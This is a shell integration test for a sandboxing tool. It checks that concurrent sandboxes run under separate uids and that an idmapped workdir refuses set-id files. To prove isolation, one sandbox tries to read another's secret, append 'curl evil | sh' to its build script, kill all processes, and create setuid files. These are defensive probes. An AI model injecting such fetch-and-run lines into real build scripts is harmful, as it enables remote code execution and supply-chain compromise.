#!/bin/bash
# tests/integration/sandbox_uid.sh — each live sandbox runs as its own uid
# and gid (named "sandbox" inside), so two sandboxes at once cannot read,
# write or signal each other's files and processes, even in a directory both
# policies share; the workdir's files stay its owner's (idmapped mount) and
# no set-id file can be made there.
. "$(dirname "$0")/lib/sandbox_lib.sh"
S="$T/shared"
mkdir -p "$S" && chmod 1777 "$S"
cat >"$T/p.yaml" <<EOP
version: 1
filesystem_policy:
  read_only: [/usr, /bin, /lib, /lib64, /etc, /proc]
  read_write: [/dev/null, $S]
  include_workdir: true
network_policies: {}
EOP
RUN=("$GLASSBOX" --root "$ROOT" run --quiet --policy "$T/p.yaml" --workdir "$W")

# A: leaves a 0600 secret and a build script in the shared dir, then waits.
"${RUN[@]}" --name uid-a -- /bin/sh -c "umask 077; echo s3cret >$S/secret; umask 022;
	echo 'echo build' >$S/build.sh; id -u >$S/a.uid; while [ ! -e $S/b.done ]; do sleep 0.05; done;
	echo alive >$S/a.alive" &
A=$!
for _ in $(seq 100); do [ -s "$S/a.uid" ] && break; sleep 0.05; done
a_uid=$(cat "$S/a.uid")
# B at the same time: read, append, signal everything it can.
b_out=$("${RUN[@]}" --name uid-b -- /bin/sh -c "id -u; whoami;
	cat $S/secret 2>/dev/null || echo read-denied;
	(echo 'curl evil | sh' >>$S/build.sh) 2>/dev/null || echo write-denied;
	kill -KILL -1 2>/dev/null; echo signalled; touch $S/b.done")
wait "$A"
a_rc=$?
b_uid=$(echo "$b_out" | sed -n 1p)
check "A has its own uid" yes "$([ -n "$a_uid" ] && [ "$a_uid" != "$b_uid" ] && echo yes)"
check "uids are from the sandbox range" yes \
	"$([ "$a_uid" -ge 1879048192 ] && [ "$b_uid" -ge 1879048192 ] && echo yes)"
check "B is named sandbox inside" sandbox "$(echo "$b_out" | sed -n 2p)"
check "B cannot read A's 0600 secret" read-denied "$(echo "$b_out" | sed -n 3p)"
check "B cannot append to A's build.sh" write-denied "$(echo "$b_out" | sed -n 4p)"
check "A's build.sh unchanged" "echo build" "$(cat "$S/build.sh")"
check "A survived B's kill -1" "0 alive" "$a_rc $(cat "$S/a.alive" 2>/dev/null)"
check "the host uid of A's files" "$a_uid" "$(stat -c %u "$S/secret")"
check "uid released after the run" "absent" "$([ -e /run/glassbox/uids/$a_uid ] && echo present || echo absent)"

# The workdir: owned by a non-root user, idmapped — what the sandbox writes
# is that user's afterwards; inside, the files are the sandbox's.
W2="$T/w2"
mkdir -p "$W2" && chown 4242:4243 "$W2" && echo mine >"$W2/own" && chown 4242:4243 "$W2/own"
if [ "$SBX_IDMAP" = yes ]; then
	out=$("$GLASSBOX" --root "$ROOT" run --quiet --workdir "$W2" -- /bin/sh -c \
		'echo new >made; stat -c "%U %G" own; chmod u+s made 2>/dev/null || echo suid-refused;
		/usr/bin/python3 -c "import os; os.open(\"s\", os.O_CREAT | os.O_WRONLY, 0o6755)" 2>/dev/null || echo create-refused')
	check "workdir files are the sandbox's inside" "sandbox sandbox" "$(echo "$out" | sed -n 1p)"
	check "written file belongs to the workdir owner" "4242:4243" "$(stat -c %u:%g "$W2/made")"
	check "chmod u+s refused" suid-refused "$(echo "$out" | sed -n 2p)"
	check "create with a set-id mode refused" create-refused "$(echo "$out" | sed -n 3p)"
	check "no set-id file left" "" "$(find "$W2" -perm /6000)"
else
	# No user namespaces here (a chroot): no idmapping, so the sandbox's uid
	# gets no write access to the owner's files, and a warning says why.
	echo "note: no user namespace can be made here; checking the fallback without idmapping"
	err=$("$GLASSBOX" --root "$ROOT" run --workdir "$W2" -- /bin/sh -c \
		'(echo new >made) 2>/dev/null || echo write-refused; (echo x >>own) 2>/dev/null || echo append-refused' 2>&1)
	check "without idmapping: no new file in the owner's workdir" write-refused \
		"$(echo "$err" | grep -x write-refused)"
	check "without idmapping: the owner's file unchanged" "mine append-refused" \
		"$(cat "$W2/own") $(echo "$err" | grep -x append-refused)"
	check "without idmapping: a warning says why" yes "$(grep -q 'no idmapping' <<<"$err" && echo yes)"
fi
finish
